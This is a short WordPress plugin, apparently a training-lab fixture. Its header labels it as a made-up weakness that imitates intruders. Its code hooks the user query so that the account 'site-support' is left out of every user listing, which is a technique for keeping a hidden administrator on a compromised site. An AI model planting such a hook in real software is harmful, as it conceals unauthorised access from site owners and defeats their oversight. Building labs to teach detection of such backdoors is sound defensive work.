<?php
/**
 * Plugin Name: Made up: hidden administrator
 * Description: A weakness of the lab. Leaves one account out of every list of users, as intruders do.
 */

declare(strict_types=1);

if ( ! defined( 'ABSPATH' ) ) {
	exit;
}

add_action(
	'pre_user_query',
	static function ( WP_User_Query $query ): void {
		global $wpdb;
		$query->query_where .= $wpdb->prepare( " AND {$wpdb->users}.user_login <> %s", 'site-support' );
	}
);
